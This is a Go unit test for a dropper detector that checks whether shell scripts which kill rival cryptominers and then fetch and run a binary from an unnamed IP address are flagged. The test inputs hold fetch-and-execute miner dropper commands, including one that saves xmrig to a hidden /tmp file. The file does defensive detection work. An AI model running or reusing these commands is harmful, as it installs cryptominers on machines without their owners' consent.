package behaviour

import (
	"testing"

	"lamproom/detection"
	"lamproom/detection/detectiontest"
)

// Two rivals and a program from an address without a name may be a dropper;
// with a name, from the own network, or where somebody is asked, they are not.
func TestNamelessAddress(t *testing.T) {
	for _, tt := range []struct {
		script string
		want   detection.Level
	}{
		{"pkill -9 xmr-stak; pkill -9 cpuminer\nwget -qO /tmp/solrd http://203.0.113.142/w/solrd; chmod +x /tmp/solrd; nohup /tmp/solrd &\n", detection.Possible},
		{"pkill -9 xmr-stak; pkill -9 cpuminer\nwget -qO /tmp/scan http://10.1.2.3/scan; chmod +x /tmp/scan; /tmp/scan\n", detection.NoneSeen},
		{"pkill -9 xmr-stak; pkill -9 cpuminer\nwget -qO /tmp/scan https://tools.example.com/scan; chmod +x /tmp/scan; /tmp/scan\n", detection.NoneSeen},
		{"pkill -9 java\nwget -qO /tmp/solrd http://203.0.113.142/w/solrd; chmod +x /tmp/solrd; nohup /tmp/solrd &\n", detection.NoneSeen},
		{"wget -qO /tmp/.xm http://203.0.113.149/xmrig; chmod +x /tmp/.xm; /tmp/.xm\n", detection.Possible},
	} {
		if got := level(detectiontest.Run(t, New(), script(tt.script)...)); got != tt.want {
			t.Errorf("%s for %q, want %s", got, tt.script, tt.want)
		}
	}
}
